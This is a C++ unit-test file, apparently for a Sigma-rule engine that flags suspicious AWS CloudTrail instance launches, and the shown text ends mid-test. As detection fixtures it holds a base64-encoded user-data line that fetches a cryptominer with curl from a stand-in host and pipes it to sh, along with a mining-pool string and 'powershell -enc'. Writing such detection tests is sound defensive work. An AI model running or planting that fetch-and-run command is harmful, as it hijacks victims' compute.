// SPDX-License-Identifier: MIT
// match.cpp: Sigma value semantics on hand-built Events (case-insensitive equality, wildcards,
// contains/startswith/endswith, lists, |all, cidr, exists, null, numeric comparisons, re,
// expand, empty watch lists, multi-valued derived fields), Matcher::wants(), and the shipped
// rules on typical launches, attempts, dry runs, mass launches and suppressed principals.
#include "rules/match.hpp"

#include "facts/event_builder.hpp"
#include "rules/value_transforms.hpp"
#include "trailwatch/error.hpp"

#include "temp_dir.hpp"
#include <algorithm>
#include <atomic>
#include <filesystem>
#include <fstream>

#include <gtest/gtest.h>
#include <random>
#include <string>
#include <unistd.h>
#include <vector>

namespace trailwatch {
namespace {

namespace fs = std::filesystem;

using testing_support::TempDir;

struct List {
  std::string name;
  std::vector<std::string> values;
};

// Loads one rule with `detection` (YAML lines indented by 2) and the given watch lists.
RuleSet load_inline(const std::string& detection, const std::vector<List>& lists = {}) {
  TempDir dir;
  dir.write("rule.yml", "title: Inline rule\n"
                        "id: 00000000-0000-4000-8000-0000000000aa\n"
                        "logsource: {product: aws, service: cloudtrail}\n"
                        "level: low\n"
                        "detection:\n" +
                            detection);
  for (const auto& list : lists) {
    std::string text = "name: " + list.name + "\nvalues:";
    if (list.values.empty()) {
      text += " []\n";
    } else {
      text += "\n";
      for (const auto& v : list.values) {
        text += "  - '" + v + "'\n";
      }
    }
    dir.write("lists/" + list.name + ".yml", text);
  }
  return load_rules({dir.path()});
}

// Loads a rule whose only selection is `field_line` ("field|mods: value").
RuleSet load_selection(const std::string& field_line, const std::vector<List>& lists = {}) {
  return load_inline("  selection:\n    " + field_line + "\n  condition: selection\n", lists);
}

bool matches(const RuleSet& set, const Event& e, const GeoInfo& geo = {}) {
  return rule_matches(set.rules.at(0), e, geo);
}

Event named(std::string name) {
  Event e;
  e.event_name = std::move(name);
  e.event_source = "ec2.amazonaws.com";
  return e;
}

Event with_agent(std::string agent) {
  Event e = named("RunInstances");
  e.user_agent = std::move(agent);
  return e;
}

Event with_ip(std::string ip) {
  Event e = named("RunInstances");
  e.source_ip = std::move(ip);
  return e;
}

Event with_types(std::vector<std::string> types) {
  Event e = named("RunInstances");
  e.launch.is_launch_api = true;
  e.launch.outcome = Outcome::launch;
  e.launch.instance_types = std::move(types);
  return e;
}

TEST(MatchValues, EqualityIsCaseInsensitiveAndWhole) {
  const RuleSet set = load_selection("eventName: runinstances");
  EXPECT_TRUE(matches(set, named("RunInstances")));
  EXPECT_TRUE(matches(set, named("RUNINSTANCES")));
  EXPECT_FALSE(matches(set, named("RunInstance")));
  EXPECT_FALSE(matches(set, named("RunInstancesX")));
  EXPECT_FALSE(matches(set, named("")));
}

TEST(MatchValues, Wildcards) {
  const RuleSet star = load_selection("eventName: 'Run*s'");
  EXPECT_TRUE(matches(star, named("RunInstances")));
  EXPECT_TRUE(matches(star, named("runs")));
  EXPECT_FALSE(matches(star, named("RunInstance")));
  EXPECT_FALSE(matches(star, named("DescribeInstances")));
  const RuleSet question = load_selection("eventName: 'RunInstance?'");
  EXPECT_TRUE(matches(question, named("RunInstances")));
  EXPECT_FALSE(matches(question, named("RunInstance")));
  EXPECT_FALSE(matches(question, named("RunInstancesX")));
  const RuleSet escaped = load_selection("userAgent: 'cli\\*'");
  EXPECT_TRUE(matches(escaped, with_agent("cli*")));
  EXPECT_FALSE(matches(escaped, with_agent("cli-v2")));
}

TEST(MatchValues, ContainsStartsWithEndsWith) {
  const RuleSet contains = load_selection("userAgent|contains: Boto3");
  EXPECT_TRUE(matches(contains, with_agent("aws-sdk boto3/1.34 python")));
  EXPECT_FALSE(matches(contains, with_agent("aws-cli/2.15")));
  const RuleSet starts = load_selection("userAgent|startswith: aws-cli/");
  EXPECT_TRUE(matches(starts, with_agent("AWS-CLI/2.15 Python/3.11")));
  EXPECT_FALSE(matches(starts, with_agent("x aws-cli/2.15")));
  const RuleSet ends = load_selection("userAgent|endswith: '.amazonaws.com'");
  EXPECT_TRUE(matches(ends, with_agent("autoscaling.amazonaws.com")));
  EXPECT_FALSE(matches(ends, with_agent("autoscaling.amazonaws.com.evil")));
}

TEST(MatchValues, ListIsOr) {
  const RuleSet set = load_selection("eventName: [RunInstances, CreateFleet]");
  EXPECT_TRUE(matches(set, named("RunInstances")));
  EXPECT_TRUE(matches(set, named("CreateFleet")));
  EXPECT_FALSE(matches(set, named("StartInstances")));
}

TEST(MatchValues, MapIsAnd) {
  const RuleSet set = load_inline("  selection:\n    eventName: RunInstances\n"
                                  "    userAgent|contains: terraform\n  condition: selection\n");
  EXPECT_TRUE(matches(set, with_agent("Terraform/1.7")));
  EXPECT_FALSE(matches(set, with_agent("aws-cli")));
  Event other = with_agent("terraform");
  other.event_name = "CreateFleet";
  EXPECT_FALSE(matches(set, other));
}

TEST(MatchValues, ListOfMapsIsOr) {
  const RuleSet set = load_inline("  selection:\n    - eventName: CreateFleet\n"
                                  "    - userAgent: console.amazonaws.com\n"
                                  "  condition: selection\n");
  EXPECT_TRUE(matches(set, named("CreateFleet")));
  EXPECT_TRUE(matches(set, with_agent("console.amazonaws.com")));
  EXPECT_FALSE(matches(set, with_agent("aws-cli")));
}

TEST(MatchValues, AllModifierNeedsEveryPattern) {
  const RuleSet set = load_selection("userAgent|contains|all: [aws-cli, Linux]");
  EXPECT_TRUE(matches(set, with_agent("aws-cli/2.15 Python/3.11 Linux/6.1")));
  EXPECT_FALSE(matches(set, with_agent("aws-cli/2.15 Python/3.11 Windows/10")));
  EXPECT_FALSE(matches(set, with_agent("Linux/6.1")));
}

TEST(MatchValues, AllModifierOverMultiValuedField) {
  const RuleSet set = load_selection("trailwatch.instanceFamily|all: [p3, g5]");
  EXPECT_TRUE(matches(set, with_types({"p3.2xlarge", "g5.xlarge"})));
  EXPECT_FALSE(matches(set, with_types({"p3.2xlarge", "m5.large"})));
}

TEST(MatchValues, CidrIpv4AndIpv6) {
  const RuleSet set = load_selection("sourceIPAddress|cidr: [10.0.0.0/8, '2001:db8::/32']");
  EXPECT_TRUE(matches(set, with_ip("10.1.2.3")));
  EXPECT_TRUE(matches(set, with_ip("10.255.255.255")));
  EXPECT_TRUE(matches(set, with_ip("::ffff:10.1.2.3")));
  EXPECT_TRUE(matches(set, with_ip("2001:db8::1")));
  EXPECT_TRUE(matches(set, with_ip("2001:DB8:ffff::1")));
  EXPECT_FALSE(matches(set, with_ip("11.0.0.1")));
  EXPECT_FALSE(matches(set, with_ip("2001:db9::1")));
  // Invalid sources never match, even when they look close to a network member.
  for (const char* bad : {"010.1.2.3", "10.1.2", "10.1.2.3 ", "AWS Internal", "ec2.amazonaws.com",
                          "", "10.0.0.0/8", "fe80::1%lo"}) {
    SCOPED_TRACE(bad);
    EXPECT_FALSE(matches(set, with_ip(bad)));
  }
}

TEST(MatchValues, Exists) {
  const RuleSet yes = load_selection("userIdentity.userName|exists: true");
  const RuleSet no = load_selection("userIdentity.userName|exists: false");
  Event with_name = named("RunInstances");
  with_name.identity.user_name = "alice";
  const Event without_name = named("RunInstances");
  EXPECT_TRUE(matches(yes, with_name));
  EXPECT_FALSE(matches(yes, without_name));
  EXPECT_FALSE(matches(no, with_name));
  EXPECT_TRUE(matches(no, without_name));
}

TEST(MatchValues, NullMeansAbsent) {
  const RuleSet set = load_selection("errorCode: null");
  Event failed = named("RunInstances");
  failed.error_code = "Client.UnauthorizedOperation";
  EXPECT_TRUE(matches(set, named("RunInstances")));
  EXPECT_FALSE(matches(set, failed));
}

TEST(MatchValues, NumericComparisonsOnDerivedFields) {
  const RuleSet gte = load_selection("trailwatch.sizeMultiplier|gte: 24");
  EXPECT_TRUE(matches(gte, with_types({"c5.24xlarge"})));
  EXPECT_TRUE(matches(gte, with_types({"c7i.metal-48xl"})));
  EXPECT_FALSE(matches(gte, with_types({"c5.12xlarge"})));
  EXPECT_FALSE(matches(gte, with_types({"m5.large"})));
  EXPECT_FALSE(matches(gte, with_types({})));
  const RuleSet lte = load_selection("trailwatch.requestedMax|lte: 5");
  Event few = with_types({"t3.micro"});
  few.launch.max_count = 5;
  Event many = few;
  many.launch.max_count = 6;
  EXPECT_TRUE(matches(lte, few));
  EXPECT_FALSE(matches(lte, many));
  EXPECT_FALSE(matches(lte, with_types({"t3.micro"}))); // no count: absent
  const RuleSet gt = load_selection("trailwatch.launchedCount|gt: 0");
  Event launched = with_types({"t3.micro"});
  launched.launch.launched_count = 1;
  EXPECT_TRUE(matches(gt, launched));
  EXPECT_FALSE(matches(gt, with_types({"t3.micro"})));
  const RuleSet lt = load_selection("trailwatch.requestedMin|lt: 2");
  Event one = with_types({"t3.micro"});
  one.launch.min_count = 1;
  EXPECT_TRUE(matches(lt, one));
  one.launch.min_count = 2;
  EXPECT_FALSE(matches(lt, one));
}

TEST(MatchValues, RegularExpression) {
  const RuleSet set = load_selection("userAgent|re: '^aws-cli/[0-9]+\\.'");
  EXPECT_TRUE(matches(set, with_agent("aws-cli/2.15.30 Python")));
  EXPECT_FALSE(matches(set, with_agent("aws-cli/x.15")));
  EXPECT_FALSE(matches(set, with_agent("boto3 aws-cli/2.1")));
}

TEST(MatchValues, ExpandFromWatchList) {
  const RuleSet set =
      load_selection("trailwatch.instanceFamily|expand: '%fams%'", {List{"fams", {"p3", "g5"}}});
  EXPECT_TRUE(matches(set, with_types({"p3.2xlarge"})));
  EXPECT_TRUE(matches(set, with_types({"G5.xlarge"})));
  EXPECT_FALSE(matches(set, with_types({"p3dn.24xlarge"})));
  EXPECT_FALSE(matches(set, with_types({"m5.large"})));
}

TEST(MatchValues, EmptyWatchListMatchesNothing) {
  const RuleSet set =
      load_inline("  selection:\n    eventName: RunInstances\n"
                  "  filter_principal:\n    userIdentity.arn|expand: '%principals%'\n"
                  "  filter_source:\n    sourceIPAddress|cidr|expand: '%cidrs%'\n"
                  "  condition: selection and not 1 of filter_*\n",
                  {List{"principals", {}}, List{"cidrs", {}}});
  Event e = with_ip("10.0.0.1");
  e.identity.arn = "arn:aws:iam::111122223333:user/alice";
  EXPECT_TRUE(matches(set, e));
  EXPECT_TRUE(matches(set, named("RunInstances")));
  EXPECT_FALSE(matches(set, named("CreateFleet")));
}

TEST(MatchValues, MultiValuedFamilyAnyValueMatches) {
  const RuleSet set = load_selection("trailwatch.instanceFamily: p3");
  EXPECT_TRUE(matches(set, with_types({"m5.large", "p3.2xlarge"})));
  EXPECT_TRUE(matches(set, with_types({"p3.2xlarge", "m5.large"})));
  EXPECT_FALSE(matches(set, with_types({"m5.large", "c5.xlarge"})));
}

TEST(MatchValues, OutcomeField) {
  const RuleSet set = load_selection("trailwatch.outcome: [attempt, dryrun]");
  Event e = with_types({"p3.2xlarge"});
  EXPECT_FALSE(matches(set, e));
  e.launch.outcome = Outcome::dryrun;
  EXPECT_TRUE(matches(set, e));
  e.launch.outcome = Outcome::attempt;
  EXPECT_TRUE(matches(set, e));
}

TEST(MatchValues, ErrorCodeBase) {
  const RuleSet set = load_selection("trailwatch.errorCodeBase: UnauthorizedOperation");
  Event e = named("RunInstances");
  e.error_code = "Client.UnauthorizedOperation";
  EXPECT_TRUE(matches(set, e));
  e.error_code = "UnauthorizedOperation";
  EXPECT_TRUE(matches(set, e));
  e.error_code = "Client.VcpuLimitExceeded";
  EXPECT_FALSE(matches(set, e));
}

TEST(MatchValues, GeoFields) {
  const RuleSet set = load_selection("trailwatch.country: [KP, IR]");
  EXPECT_TRUE(set.rules[0].uses_geo);
  GeoInfo geo;
  geo.country = "kp";
  EXPECT_TRUE(matches(set, named("RunInstances"), geo));
  geo.country = "DE";
  EXPECT_FALSE(matches(set, named("RunInstances"), geo));
  EXPECT_FALSE(matches(set, named("RunInstances")));
}

// ---------------------------------------------------------------------------------------------
// Matcher::wants

TEST(MatcherWants, OnlyTheRulesEventNames) {
  const Matcher matcher(load_inline("  selection:\n    eventName: [RunInstances, CreateFleet]\n"
                                    "  condition: selection\n"));
  EXPECT_TRUE(matcher.wants("RunInstances"));
  EXPECT_TRUE(matcher.wants("runinstances"));
  EXPECT_TRUE(matcher.wants("CREATEFLEET"));
  EXPECT_FALSE(matcher.wants("DescribeInstances"));
  EXPECT_FALSE(matcher.wants("RunInstance"));
  EXPECT_FALSE(matcher.wants(""));
}

TEST(MatcherWants, EventNamesListedForThePrefilter) {
  const Matcher matcher(load_inline("  selection:\n    eventName: [RunInstances, CreateFleet]\n"
                                    "  condition: selection\n"));
  EXPECT_FALSE(matcher.wants_all());
  EXPECT_EQ(matcher.event_names(), (std::vector<std::string>{"RunInstances", "CreateFleet"}));
}

TEST(MatcherWants, EveryNameWithoutRestriction) {
  const Matcher matcher(load_selection("userAgent|contains: terraform"));
  EXPECT_TRUE(matcher.wants_all());
  EXPECT_TRUE(matcher.wants("RunInstances"));
  EXPECT_TRUE(matcher.wants("GetCallerIdentity"));
}

TEST(MatcherWants, NotOfEventNameIsNoRestriction) {
  const Matcher matcher(load_inline("  sel:\n    eventName: RunInstances\n  condition: not sel\n"));
  EXPECT_TRUE(matcher.wants("DescribeInstances"));
}

TEST(MatcherWants, ShippedRulesWantLaunchEventsOnly) {
  const Matcher matcher(load_rules({TRAILWATCH_RULES_DIR}));
  EXPECT_TRUE(matcher.wants("RunInstances"));
  EXPECT_TRUE(matcher.wants("CreateFleet"));
  EXPECT_TRUE(matcher.wants("ModifyInstanceAttribute"));
  EXPECT_FALSE(matcher.wants("DescribeInstances"));
  EXPECT_FALSE(matcher.wants("ConsoleLogin"));
}

// ---------------------------------------------------------------------------------------------
// Shipped rules

constexpr const char* k_gpu = "3c1f0f6e-6a55-4c1e-9a51-0d2b7c8f1a01";
constexpr const char* k_large = "3c1f0f6e-6a55-4c1e-9a51-0d2b7c8f1a02";
constexpr const char* k_attempt = "3c1f0f6e-6a55-4c1e-9a51-0d2b7c8f1a03";
constexpr const char* k_mass = "3c1f0f6e-6a55-4c1e-9a51-0d2b7c8f1a04";

// A RunInstances call by an IAM user from a public address.
Event launch(std::vector<std::string> types, Outcome outcome = Outcome::launch,
             std::string error_code = "") {
  Event e;
  e.event_name = "RunInstances";
  e.event_source = "ec2.amazonaws.com";
  e.event_id = "ev-1";
  e.source_ip = "198.51.100.7";
  e.error_code = std::move(error_code);
  e.identity.type = "IAMUser";
  e.identity.arn = "arn:aws:iam::111122223333:user/alice";
  e.identity.account_id = "111122223333";
  e.account = "111122223333";
  e.actor = "alice";
  e.launch.is_launch_api = true;
  e.launch.outcome = outcome;
  e.launch.instance_types = std::move(types);
  e.launch.min_count = 1;
  e.launch.max_count = 1;
  e.launch.launched_count = outcome == Outcome::launch ? 1 : 0;
  return e;
}

std::vector<std::string> alert_ids(const Matcher& matcher, const Event& e) {
  std::vector<Alert> alerts;
  matcher.match(e, GeoInfo{}, alerts);
  std::vector<std::string> ids;
  for (const auto& a : alerts) {
    ids.push_back(a.rule_id);
  }
  std::sort(ids.begin(), ids.end());
  return ids;
}

using Ids = std::vector<std::string>;

class ShippedRules : public testing::Test {
protected:
  static void SetUpTestSuite() { s_matcher = new Matcher(load_rules({TRAILWATCH_RULES_DIR})); }
  static void TearDownTestSuite() {
    delete s_matcher;
    s_matcher = nullptr;
  }
  static Matcher* s_matcher;
};
Matcher* ShippedRules::s_matcher = nullptr;

TEST_F(ShippedRules, GpuLaunchIsHigh) {
  std::vector<Alert> alerts;
  s_matcher->match(launch({"p3.2xlarge"}), GeoInfo{}, alerts);
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].rule_id, k_gpu);
  EXPECT_EQ(alerts[0].level, Level::high);
  EXPECT_EQ(alerts[0].event.event_id, "ev-1");
  EXPECT_FALSE(alerts[0].rule_title.empty());
}

TEST_F(ShippedRules, LargeGpuIsOnlyTheGpuRule) {
  EXPECT_EQ(alert_ids(*s_matcher, launch({"p3dn.24xlarge"})), Ids{k_gpu});
}

TEST_F(ShippedRules, UpperCaseTypeMatches) {
  EXPECT_EQ(alert_ids(*s_matcher, launch({"P3.2XLARGE"})), Ids{k_gpu});
}

TEST_F(ShippedRules, LargeSizeIsMedium) {
  std::vector<Alert> alerts;
  s_matcher->match(launch({"c5.24xlarge"}), GeoInfo{}, alerts);
  ASSERT_EQ(alerts.size(), 1u);
  EXPECT_EQ(alerts[0].rule_id, k_large);
  EXPECT_EQ(alerts[0].level, Level::medium);
}

TEST_F(ShippedRules, MetalSizesAreLarge) {
  for (const char* type : {"c7i.metal-48xl", "u-6tb1.metal", "m5.metal", "x2iedn.32xlarge"}) {
    SCOPED_TRACE(type);
    EXPECT_EQ(alert_ids(*s_matcher, launch({type})), Ids{k_large});
  }
}

TEST_F(ShippedRules, OrdinaryTypesAreQuiet) {
  for (const char* type : {"m5.large", "t3.micro", "c5.12xlarge", "r6i.16xlarge"}) {
    SCOPED_TRACE(type);
    EXPECT_TRUE(alert_ids(*s_matcher, launch({type})).empty());
  }
}

TEST_F(ShippedRules, ConfigureThroughLaunchTemplate) {
  Event e = launch({"g5.12xlarge"}, Outcome::configure);
  e.event_name = "CreateLaunchTemplate";
  EXPECT_EQ(alert_ids(*s_matcher, e), Ids{k_gpu});
}

TEST_F(ShippedRules, UnauthorizedGpuIsAttempt) {
  EXPECT_EQ(alert_ids(*s_matcher,
                      launch({"p2.xlarge"}, Outcome::attempt, "Client.UnauthorizedOperation")),
            Ids{k_attempt});
}

TEST_F(ShippedRules, DryRunGpuIsAttempt) {
  EXPECT_EQ(
      alert_ids(*s_matcher, launch({"p4d.24xlarge"}, Outcome::dryrun, "Client.DryRunOperation")),
      Ids{k_attempt});
}

TEST_F(ShippedRules, FailedOrdinaryTypeIsQuiet) {
  EXPECT_TRUE(
      alert_ids(*s_matcher, launch({"t3.micro"}, Outcome::attempt, "Client.VcpuLimitExceeded"))
          .empty());
}

TEST_F(ShippedRules, MassLaunch) {
  Event e = launch({"t3.micro"});
  e.launch.max_count = 20;
  EXPECT_EQ(alert_ids(*s_matcher, e), Ids{k_mass});
  e.launch.max_count = 9;
  EXPECT_TRUE(alert_ids(*s_matcher, e).empty());
  e.launch.launched_count = 10; // launched, whatever was asked
  EXPECT_EQ(alert_ids(*s_matcher, e), Ids{k_mass});
}

TEST_F(ShippedRules, OtherEventSourceIsQuiet) {
  Event e = launch({"p3.2xlarge"});
  e.event_source = "sagemaker.amazonaws.com";
  EXPECT_TRUE(alert_ids(*s_matcher, e).empty());
}

TEST(ShippedRulesSuppressed, PrincipalOnSuppressionListIsQuiet) {
  TempDir dir;
  fs::copy(TRAILWATCH_RULES_DIR, dir / "rules", fs::copy_options::recursive);
  dir.write("rules/watchlists/suppressed_principals.yml",
            "name: suppressed_principals\n"
            "values:\n"
            "  - 'arn:aws:sts::111122223333:assumed-role/ml-training/*'\n");
  const Matcher matcher(load_rules({(dir / "rules").string()}));

  Event suppressed = launch({"p3.2xlarge"});
  suppressed.identity.type = "AssumedRole";
  suppressed.identity.arn = "arn:aws:sts::111122223333:assumed-role/ml-training/job-42";
  EXPECT_TRUE(alert_ids(matcher, suppressed).empty());

  Event other = launch({"p3.2xlarge"});
  other.identity.arn = "arn:aws:sts::111122223333:assumed-role/ml-training-other/job-42";
  EXPECT_EQ(alert_ids(matcher, other), Ids{k_gpu});
}

// Raw paths: any dotted path of the kept record (issue 9).

Event from_json(const std::string& json) {
  std::string bad;
  return build_event(Record(json), Origin{"test", 0}, bad);
}

TEST(MatchRawPaths, RequestParameterFires) {
  const Event e = from_json(
      R"({"eventName":"CreateBucket","requestParameters":{"bucketName":"exfil-bucket"}})");
  EXPECT_TRUE(matches(load_selection("requestParameters.bucketName: 'exfil-*'"), e));
  EXPECT_FALSE(matches(load_selection("requestParameters.bucketName: 'other'"), e));
  EXPECT_FALSE(matches(load_selection("requestParameters.missing: 'exfil-bucket'"), e));
}

TEST(MatchRawPaths, NestedArraysLookAtEveryElement) {
  const Event e =
      from_json(R"({"eventName":"RunInstances","requestParameters":{"instancesSet":{"items":[)"
                R"({"imageId":"ami-1"},{"imageId":"ami-2"}]},"groups":["sg-1","sg-2"]}})");
  EXPECT_TRUE(matches(load_selection("requestParameters.instancesSet.items.imageId: ami-2"), e));
  EXPECT_TRUE(matches(load_selection("requestParameters.groups: sg-2"), e));
  EXPECT_TRUE(matches(load_selection("requestParameters.groups|exists: true"), e));
}

TEST(MatchRawPaths, NumbersBooleansAndObjectsAsText) {
  const Event e =
      from_json(R"({"eventName":"ConsoleLogin","additionalEventData":{"MFAUsed":"No","Count":3,)"
                R"("Flag":true},"responseElements":{"ConsoleLogin":"Success"}})");
  EXPECT_TRUE(matches(load_selection("additionalEventData.MFAUsed: 'No'"), e));
  EXPECT_TRUE(matches(load_selection("additionalEventData.Count|gte: 3"), e));
  EXPECT_TRUE(matches(load_selection("additionalEventData.Flag: 'true'"), e));
  EXPECT_TRUE(
      matches(load_selection("responseElements|contains: '\"ConsoleLogin\":\"Success\"'"), e));
}

// `null` matches JSON null and absence alike; `exists` checks presence only ("be it empty or
// null", the modifiers appendix), so a member holding null exists.
TEST(MatchRawPaths, NullMatchesNullAndAbsentExistsChecksPresence) {
  const Event e = from_json(R"({"eventName":"X","responseElements":null})");
  EXPECT_TRUE(matches(load_selection("responseElements: null"), e));
  EXPECT_TRUE(matches(load_selection("requestParameters.name: null"), e));
  EXPECT_TRUE(matches(load_selection("responseElements|exists: true"), e));
  EXPECT_FALSE(matches(load_selection("requestParameters|exists: true"), e));
}

TEST(MatchRawPaths, RuleOnRawPathCanMatchAnyEventNameOnlyWhenUnrestricted) {
  const RuleSet any = load_selection("requestParameters.name: x");
  EXPECT_TRUE(any.rules.at(0).event_names.empty());
  const RuleSet one =
      load_inline("  selection:\n    eventName: PutBucketPolicy\n    requestParameters.name: x\n"
                  "  condition: selection\n");
  EXPECT_EQ(one.rules.at(0).event_names, std::vector<std::string>{"PutBucketPolicy"});
}

// Issue 10 (first steps): regular expressions run on RE2 (linear time) with Sigma's i, m and s
// flags; fieldref compares a field with another field of the same record.

TEST(MatchRegex, LinearTimeOnHugeValuesAndNoCrash) {
  // std::regex overflowed its stack (SIGSEGV) on a 50 kB value and was exponential on this one.
  const RuleSet set = load_selection("userAgent|re: '^(a+)+$'");
  EXPECT_TRUE(matches(set, with_agent(std::string(50000, 'a'))));
  EXPECT_FALSE(matches(set, with_agent(std::string(50000, 'a') + "!")));
  // A 1 MB value (the issue's benchmark case) is matched in one linear pass.
  EXPECT_TRUE(matches(set, with_agent(std::string(1 << 20, 'a'))));
}

TEST(MatchRegex, CaseSensitiveUnlessI) {
  EXPECT_FALSE(matches(load_selection("userAgent|re: '^AWS-CLI'"), with_agent("aws-cli/2")));
  EXPECT_TRUE(matches(load_selection("userAgent|re|i: '^AWS-CLI'"), with_agent("aws-cli/2")));
}

TEST(MatchRegex, MultilineAndDotAll) {
  const Event e = with_agent("first line\nsecond line");
  EXPECT_FALSE(matches(load_selection("userAgent|re: '^second'"), e));
  EXPECT_TRUE(matches(load_selection("userAgent|re|m: '^second'"), e));
  EXPECT_FALSE(matches(load_selection("userAgent|re: 'line.second'"), e));
  EXPECT_TRUE(matches(load_selection("userAgent|re|s: 'line.second'"), e));
}

TEST(MatchRegex, BadPatternAndStrayFlagsAreRuleErrors) {
  EXPECT_THROW(load_selection("userAgent|re: '(unclosed'"), Fatal);
  EXPECT_THROW(load_selection("userAgent|i: 'x'"), Fatal);
}

TEST(MatchFieldref, ComparesWithAnotherFieldOfTheRecord) {
  const Event same = from_json(R"({"eventName":"UpdateLoginProfile","userIdentity":{"userName":)"
                               R"("Alice","arn":"arn:aws:iam::1:user/alice"},)"
                               R"("requestParameters":{"userName":"alice"}})");
  const Event other = from_json(R"({"eventName":"UpdateLoginProfile","userIdentity":{"userName":)"
                                R"("mallory","arn":"arn:aws:iam::1:user/mallory"},)"
                                R"("requestParameters":{"userName":"alice"}})");
  const RuleSet equal =
      load_selection("userIdentity.userName|fieldref: requestParameters.userName");
  EXPECT_TRUE(matches(equal, same)); // equal ignoring case
  EXPECT_FALSE(matches(equal, other));
  const RuleSet ends =
      load_selection("userIdentity.arn|fieldref|endswith: requestParameters.userName");
  EXPECT_TRUE(matches(ends, same));
  EXPECT_FALSE(matches(ends, other));
  const RuleSet absent = load_selection("userIdentity.userName|fieldref: requestParameters.nope");
  EXPECT_FALSE(matches(absent, same));
  EXPECT_THROW(load_selection("userIdentity.userName|fieldref: trailwatch.nope"), Fatal);
}

TEST(SigmaHQ, EveryAwsCloudTrailRuleLoads) {
  const fs::path rules = fs::path(TRAILWATCH_SHARED_FIXTURES).parent_path() / "sigma" / "rules";
  if (!fs::is_directory(rules)) {
    GTEST_SKIP() << rules << " is absent (../shared/fixtures)";
  }
  RuleSet set;
  const auto errors = lint_rules({rules.string()}, &set);
  EXPECT_TRUE(errors.empty()) << errors.size() << " errors, first: " << errors.front();
  EXPECT_GE(set.rules.size(), 57u);
}

// Issue 10: cased, neq and the value-transforming modifiers (base64, base64offset, utf16le/be,
// utf16, wide, windash), applied in the order written.

TEST(MatchModifiers, CasedComparesCase) {
  EXPECT_TRUE(matches(load_selection("userAgent|cased: 'aws-cli*'"), with_agent("aws-cli/2")));
  EXPECT_FALSE(matches(load_selection("userAgent|cased: 'AWS-CLI*'"), with_agent("aws-cli/2")));
  EXPECT_TRUE(matches(load_selection("userAgent: 'AWS-CLI*'"), with_agent("aws-cli/2")));
}

TEST(MatchModifiers, NeqHoldsWhenNoValueEquals) {
  const RuleSet set = load_selection("userAgent|neq: 'console.amazonaws.com'");
  EXPECT_TRUE(matches(set, with_agent("aws-cli/2")));
  EXPECT_FALSE(matches(set, with_agent("console.amazonaws.com")));
  EXPECT_TRUE(matches(set, named("RunInstances"))); // absent: not equal
}

TEST(MatchModifiers, Base64AndBase64offset) {
  EXPECT_EQ(base64_encode("hello"), "aGVsbG8=");
  EXPECT_EQ(base64_encode(""), "");
  EXPECT_EQ(base64_encode("ab"), "YWI=");
  // The value as it sits at each of the three offsets inside a longer base64 text.
  const Event e = from_json(R"({"eventName":"RunInstances","requestParameters":{"userData":")" +
                            base64_encode("#!/bin/bash\ncurl http://x/xmrig | sh") + R"("}})");
  EXPECT_TRUE(
      matches(load_selection("requestParameters.userData|base64offset|contains: xmrig"), e));
  EXPECT_FALSE(
      matches(load_selection("requestParameters.userData|base64offset|contains: miner"), e));
  for (const char* prefix : {"", "a", "ab", "abc"}) {
    SCOPED_TRACE(prefix);
    const Event shifted =
        from_json(R"({"eventName":"X","requestParameters":{"d":")" +
                  base64_encode(std::string(prefix) + "stratum+tcp://pool") + R"("}})");
    EXPECT_TRUE(
        matches(load_selection("requestParameters.d|base64offset|contains: stratum"), shifted));
  }
  const Event whole = from_json(R"({"eventName":"X","requestParameters":{"d":"aGVsbG8="}})");
  EXPECT_TRUE(matches(load_selection("requestParameters.d|base64: hello"), whole));
}

TEST(MatchModifiers, Utf16AndWideThenBase64) {
  // "hi" in UTF-16LE is 68 00 69 00: base64 "aABpAA==".
  const Event e = from_json(R"({"eventName":"X","requestParameters":{"d":"aABpAA=="}})");
  EXPECT_TRUE(matches(load_selection("requestParameters.d|wide|base64: hi"), e));
  EXPECT_TRUE(matches(load_selection("requestParameters.d|utf16le|base64: hi"), e));
  EXPECT_FALSE(matches(load_selection("requestParameters.d|utf16be|base64: hi"), e));
  const Event be = from_json(R"({"eventName":"X","requestParameters":{"d":"AGgAaQ=="}})");
  EXPECT_TRUE(matches(load_selection("requestParameters.d|utf16be|base64: hi"), be));
  const Event bom = from_json(R"({"eventName":"X","requestParameters":{"d":"//5oAGkA"}})");
  EXPECT_TRUE(matches(load_selection("requestParameters.d|utf16|base64: hi"), bom));
}

TEST(MatchModifiers, WindashAcceptsEveryDash) {
  const RuleSet set = load_selection("userAgent|windash|contains: ' -enc '");
  EXPECT_TRUE(matches(set, with_agent("powershell -enc AAA")));
  EXPECT_TRUE(matches(set, with_agent("powershell /enc AAA")));
  EXPECT_TRUE(matches(set, with_agent("powershell \u2013enc AAA")));
  EXPECT_TRUE(matches(set, with_agent("powershell \u2014enc AAA")));
  EXPECT_FALSE(matches(set, with_agent("powershell enc AAA")));
}

TEST(MatchModifiers, AllNeedsEveryValueNotEveryVariant) {
  const Event e = from_json(R"({"eventName":"X","requestParameters":{"d":")" +
                            base64_encode("one two three") + R"("}})");
  EXPECT_TRUE(
      matches(load_selection("requestParameters.d|base64offset|contains|all: [one, three]"), e));
  EXPECT_FALSE(
      matches(load_selection("requestParameters.d|base64offset|contains|all: [one, four]"), e));
}

TEST(MatchModifiers, TimePartsOfEventTime) {
  // 2026-11-29T03:04:05Z is a Sunday in ISO week 48.
  const Event e = from_json(R"({"eventName":"X","eventTime":"2026-11-29T03:04:05Z"})");
  EXPECT_TRUE(matches(load_selection("eventTime|hour: 3"), e));
  EXPECT_FALSE(matches(load_selection("eventTime|hour: 4"), e));
  EXPECT_TRUE(matches(load_selection("eventTime|minute: 4"), e));
  EXPECT_TRUE(matches(load_selection("eventTime|day: 29"), e));
  EXPECT_TRUE(matches(load_selection("eventTime|week: 48"), e));
  EXPECT_TRUE(matches(load_selection("eventTime|month: 11"), e));
  EXPECT_TRUE(matches(load_selection("eventTime|year: 2026"), e));
  EXPECT_TRUE(matches(load_selection("eventTime|hour: [1, 2, 3]"), e));
  // Off hours: before 06:00 UTC.
  EXPECT_TRUE(matches(load_selection("eventTime|hour|lt: 6"), e));
  EXPECT_FALSE(matches(load_selection("eventTime|hour|gte: 6"), e));
  EXPECT_THROW(load_selection("eventTime|hour: three"), Fatal);
}

// Issue 10: --min-level, --status, --rule and --tag choose the rules a run uses.
TEST(RuleSelectionTest, LevelStatusIdAndTag) {
  auto make = [](std::string id, Level level, std::string status, std::vector<std::string> tags) {
    Rule rule;
    rule.id = std::move(id);
    rule.level = level;
    rule.status = std::move(status);
    rule.tags = std::move(tags);
    return rule;
  };
